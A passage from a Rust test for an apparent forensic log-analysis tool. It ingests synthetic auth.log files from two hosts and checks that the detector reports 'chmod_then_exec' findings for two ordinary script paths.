    let h2 = line(8, "h2", "/srv/elsewhere");
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev");
    write(&ev, "h1/var/log/auth.log", h1.as_bytes());
    write(&ev, "h2/var/log/auth.log", h2.as_bytes());
    let case = dir.path().join("case");
    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(case.join("findings.json")).unwrap()).unwrap();
    let mut runs: Vec<(String, u64)> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["details"]["kind"] == "chmod_then_exec")
        .map(|f| (f["details"]["executed"].as_str().unwrap().to_string(), f["count"].as_u64().unwrap()))
        .collect();
    runs.sort();
    // sudo logs no executable apart from the command line: what ran is the command.
    assert_eq!(runs, [("/home/bob/run.sh".to_string(), 2), ("/opt/tools/b.sh --run".to_string(), 2)]);
}
